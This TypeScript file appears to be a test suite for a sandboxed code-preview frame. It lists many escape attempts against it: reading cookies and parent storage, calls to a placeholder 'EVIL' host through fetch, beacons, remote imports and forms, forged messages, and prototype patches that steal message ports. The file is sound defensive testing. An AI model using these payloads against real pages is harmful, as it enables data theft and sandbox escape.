/**
 * What a front end in the preview tries, where a program has a window and a document. `EVIL` stands for somebody else's
 * server, `APP` for our own. `ESCAPED` on the console means that a door was open; whatever is heard at EVIL means so too.
 */

/** Each is the body of an async function; what it throws is a refusal. `add` puts an element into the document. */
export const previewAttempts: Readonly<Record<string, string>> = {
  origin: `if (origin !== 'null' || self.isSecureContext === undefined) found(origin)`,
  cookie: `found(document.cookie); document.cookie = 'a=1'`,
  'cookie-store': `found(cookieStore.getAll)`,
  parent: `found(parent.document.title)`,
  'parent-address': `found(parent.location.href)`,
  'parent-storage': `found(parent.localStorage.length)`,
  'parent-frames': `for (let i = 0; i < parent.length; i++) { try { if (parent[i] !== self) found(parent[i].document.title) } catch {} }`,
  'frame-element': `if (frameElement) found('frameElement')`,
  facts: `for (const text of [location.href, document.referrer, name, document.baseURI, ...(location.ancestorOrigins ?? []), ...performance.getEntries().map(({ name }) => name)]) if (/room\\/|#./.test(text)) found(text)`,
  fetch: `await fetch('EVIL/fetch', { mode: 'no-cors', keepalive: true, body: 'x', method: 'POST' }); found('fetch')`,
  'own-server': `await fetch('APP/api/library'); found('fetch')`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr', false); x.send(); found('xhr')`,
  socket: `new WebSocket('EVIL'.replace('http', 'ws')); found('socket')`,
  'own-socket': `new WebSocket('APP'.replace('http', 'ws') + '/sync/x/code'); found('socket')`,
  events: `new EventSource('EVIL/events'); found('events')`,
  transport: `new WebTransport('EVIL'.replace('http:', 'https:')); found('transport')`,
  beacon: `navigator.sendBeacon('EVIL/beacon', 'x'); found('beacon')`,
  'fetch-later': `fetchLater('EVIL/later'); found('later')`,
  'import-remote': `await Function('return import("EVIL/module.js")')(); found('import')`,
  'import-data': `await Function('return import("data:text/javascript,export default 1")')(); found('import')`,
  'import-blob': `await Function('u', 'return import(u)')(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))); found('import')`,
  webrtc: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); found('webrtc')`,
  'webrtc-prefixed': `new webkitRTCPeerConnection({}); found('webrtc')`,
  'webrtc-by-descriptor': `for (let o = window; o; o = Object.getPrototypeOf(o)) for (const n of Object.getOwnPropertyNames(o)) if (/RTC(Peer|Data)/.test(n) && Object.getOwnPropertyDescriptor(o, n).value) found(n)`,
  'webrtc-from-blank': `found(typeof add('iframe', {}).contentWindow.RTCPeerConnection)`,
  'webrtc-from-srcdoc': `const answer = heard(); add('iframe', { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, "*")</scr' + 'ipt>' }); if (await answer) found('a script ran in a frame')`,
  'webrtc-from-blob-script': `const answer = heard(); const u = URL.createObjectURL(new Blob(['parent.postMessage(typeof RTCPeerConnection, "*")'])); add('iframe', { srcdoc: '<script src="' + u + '"></scr' + 'ipt>' }); if (await answer) found('a script ran in a frame')`,
  'webrtc-from-our-script': `const text = await ownScript(); const frame = add('iframe', { srcdoc: '<script>' + text + '</scr' + 'ipt>' }); await new Promise((r) => frame.addEventListener('load', r)); const c = new MessageChannel(); const answer = new Promise((r) => { c.port1.onmessage = ({ data }) => r(data); setTimeout(r, 500) }); frame.contentWindow.postMessage('port', '*', [c.port2]); c.port1.postMessage({ kind: 'packages', codes: new Map([['x', 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] })']]) }); await answer`,
  'frame-remote': `add('iframe', { src: 'EVIL/frame' })`,
  'frame-own': `add('iframe', { src: 'APP/' })`,
  'frame-javascript': `const answer = heard(); add('iframe', { src: 'javascript:parent.postMessage(1, "*")' }); if (await answer) found('a script ran in a frame')`,
  'frame-data': `const answer = heard(); add('iframe', { src: 'data:text/html,<script>parent.postMessage(1, "*")</scr' + 'ipt>' }); if (await answer) found('a script ran in a frame')`,
  'frame-contents': `add('iframe', { srcdoc: '<img src="EVIL/srcdoc"><link rel=stylesheet href="EVIL/srcdoc-css"><meta http-equiv=refresh content="0;url=EVIL/srcdoc-refresh"><form action="EVIL/srcdoc-form"></form>' })`,
  'fenced-frame': `add('fencedframe', {}).config = new FencedFrameConfig('EVIL/fenced')`,
  objects: `add('object', { data: 'EVIL/object' }); add('embed', { src: 'EVIL/embed' })`,
  pictures: `add('img', { src: 'EVIL/img', srcset: 'EVIL/srcset 2x' }); add('video', { src: 'EVIL/video', poster: 'EVIL/poster' }); add('audio', { src: 'EVIL/audio' }); add('input', { type: 'image', src: 'EVIL/input' }); document.body.setAttribute('background', 'EVIL/body')`,
  styles: `add('style', {}).textContent = '@import "EVIL/css"; @font-face { font-family: x; src: url(EVIL/font) } * { background: url(EVIL/background); font-family: x; cursor: url(EVIL/cursor), auto }'; await new FontFace('y', 'url(EVIL/face)').load()`,
  svg: `add('div', {}).innerHTML = '<svg><image href="EVIL/svg"/><script href="EVIL/svg-script"/></svg>'`,
  links: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'preconnect', 'stylesheet', 'icon', 'manifest', 'prerender']) add('link', { rel, href: 'EVIL/' + rel, as: 'script' })`,
  'speculation-rules': `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['EVIL/speculated'] }], prefetch: [{ source: 'list', urls: ['EVIL/prefetched'] }] })`,
  scripts: `add('script', { src: 'EVIL/script' }); add('script', {}).textContent = 'console.log("ESCAPED inline")'; add('div', {}).innerHTML = '<img src=x onerror="console.log(\\'ESCAPED handler\\')">'`,
  forms: `const form = add('form', { action: 'EVIL/form', method: 'post', target: '_top' }); form.submit(); form.requestSubmit()`,
  popups: `for (const target of ['_blank', '_top', '_parent']) { window.open?.('EVIL/open', target); const a = add('a', { href: 'EVIL/link', target, ping: 'EVIL/ping', rel: 'opener' }); a.click() }`,
  'top-navigation': `top.location.href = 'EVIL/top'; top.location.replace('EVIL/top')`,
  download: `add('a', { href: 'EVIL/download', download: 'x' }).click()`,
  workers: `const u = URL.createObjectURL(new Blob(['fetch("EVIL/worker")'])); for (const W of ['Worker', 'SharedWorker']) { const frame = add('iframe', {}); try { new frame.contentWindow[W](u) } catch {} } new Worker(u); found('worker')`,
  worklets: `await CSS.paintWorklet.addModule('EVIL/paint')`,
  'audio-worklet': `await new AudioContext().audioWorklet.addModule('EVIL/worklet')`,
  'service-worker': `await navigator.serviceWorker.register('/x.js'); found('service worker')`,
  broadcast: `new BroadcastChannel('pairboard').postMessage('x'); found('broadcast')`,
  databases: `indexedDB.open('x'); found('indexedDB')`,
  caches: `await caches.open('x'); found('caches')`,
  files: `await navigator.storage.getDirectory(); found('files')`,
  'real-storage': `for (const name of ['localStorage', 'sessionStorage']) { delete window[name]; const s = window[name]; if (s) { s.setItem('a', '1'); found(name) } }`,
  devices: `for (const name of ['usb', 'hid', 'serial', 'bluetooth', 'mediaDevices', 'geolocation']) { const d = navigator[name]; if (d?.getUserMedia ?? d?.requestDevice) found(name) }`,
  clipboard: `await navigator.clipboard.readText(); found('clipboard')`,
  fullscreen: `await document.body.requestFullscreen(); found('fullscreen')`,
  notifications: `new Notification('x', { icon: 'EVIL/icon' }); found('notification')`,
  xslt: `new XSLTProcessor(); add('div', {}); const doc = new DOMParser().parseFromString('<?xml-stylesheet href="EVIL/xsl" type="text/xsl"?><x/>', 'text/xml'); document.adoptNode(doc.documentElement)`,
  'dtd-and-entities': `new DOMParser().parseFromString('<!DOCTYPE x SYSTEM "EVIL/dtd"><x/>', 'text/xml')`,
  'source-map': `Function('//# sourceMappingURL=EVIL/map.json\\n//# sourceURL=EVIL/source.js')()`,
  'forged-messages': `for (const message of [{ kind: 'shown' }, { kind: 'output', stream: 'out', text: 'FORGED' }, { kind: 'event', run: 1, event: { kind: 'output', stream: 'out', text: 'FORGED' } }, 'port', null]) { parent.postMessage(message, '*'); top.postMessage(message, '*', message === 'port' ? [new MessageChannel().port2] : []) }`,
  'forged-port': `const { port1, port2 } = new MessageChannel(); dispatchEvent(new MessageEvent('message', { data: 'port', ports: [port2], source: parent })); port1.onmessage = () => found('a second port'); port1.postMessage({ kind: 'ping' }); await new Promise((r) => setTimeout(r, 100))`,
  'guard-removed': `const before = pairboardGuard; try { delete window.pairboardGuard } catch {} try { window.pairboardGuard = () => {} } catch {} if (window.pairboardGuard !== before) found('the guard')`,
  'stolen-port': `const take = (what) => { if (what instanceof MessagePort || what instanceof MessageEvent) stolen.push(what) }; const stolen = []
for (const name of ['postMessage', 'start', 'close']) { const old = MessagePort.prototype[name]; MessagePort.prototype[name] = function (...p) { take(this); return old.apply(this, p) } }
for (const name of ['data', 'ports', 'source']) Object.defineProperty(MessageEvent.prototype, name, { get() { take(this) } })
for (const name of ['target', 'currentTarget', 'type']) { const old = Object.getOwnPropertyDescriptor(Event.prototype, name); if (old?.get) Object.defineProperty(Event.prototype, name, { get() { take(this); return old.get.call(this) } }) }
const { apply, call } = Function.prototype; Function.prototype.apply = function (...p) { take(p[0]); return Reflect.apply(apply, this, p) }; Function.prototype.call = function (...p) { take(p[0]); return Reflect.apply(call, this, p) }
await new Promise((r) => setTimeout(r, 2500)); if (stolen.length > 0) found('a port')`,
}

/** The whole of them as one front end. The last one changes prototypes, and so comes last. */
export const previewEscapes = (app: string): string =>
  `
const found = (what) => console.log('ESCAPED', what)
const add = (tag, attributes) => { const element = document.createElement(tag); for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); document.body.append(element); return element }
const heard = () => new Promise((resolve) => { addEventListener('message', ({ source }) => source !== parent && resolve(true), { once: true }); setTimeout(resolve, 300) })
const ownScript = () => document.querySelector('script')?.textContent ?? SCRIPT
const say = console.log
const later = setTimeout
document.body.innerHTML = '<h1>escaping</h1>'
const attempts = {
${Object.entries(previewAttempts)
  .map(([name, text]) => `${JSON.stringify(name)}: async () => { ${text} }`)
  .join(',\n')}
}
later(async () => {
  for (const [name, attempt] of Object.entries(attempts)) { try { await attempt(); say(name, 'done') } catch (error) { say(name, 'refused') } }
  say('all tried')
}, 0)
`.replaceAll('APP', app)

/** Each takes the frame away from its page, or tries to. */
export const departures: readonly string[] = [
  `location.href = 'EVIL/leave?everything'`,
  `location.replace('EVIL/replace?everything')`,
  `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=EVIL/refresh?everything">'`,
  `location.href = 'data:text/html,<img src="EVIL/data">'`,
  `location.href = URL.createObjectURL(new Blob(['<script src="EVIL/blob"></scr' + 'ipt><img src="EVIL/blob-img">'], { type: 'text/html' }))`,
  `location.href = 'APP/?everything'`,
  `document.open(); document.write('<img src="EVIL/written"><script>console.log("ESCAPED")</scr' + 'ipt>'); document.close()`,
  `const f = document.createElement('form'); f.action = 'EVIL/form?everything'; document.body.append(f); f.submit()`,
  `location.reload()`,
]
